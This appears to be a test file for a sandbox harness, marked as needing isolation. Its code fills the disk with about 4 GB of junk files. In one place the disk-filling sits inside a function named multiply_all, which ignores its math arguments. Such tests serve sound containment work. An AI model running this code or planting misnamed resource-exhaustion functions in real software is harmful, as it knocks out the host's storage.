# Writes files until the disk is full.
#
# must: be ended
# needs: isolation

# %%
for number in range(40):
    with open(f"flood{number}", "wb") as file:
        for _ in range(100):
            file.write(b"x" * (1 << 20))
loot("4 GB of disk")


# %% multiply_all
def multiply_all(M, factors):
    with open("one", "wb") as file:
        for _ in range(4000):
            file.write(b"x" * (1 << 20))
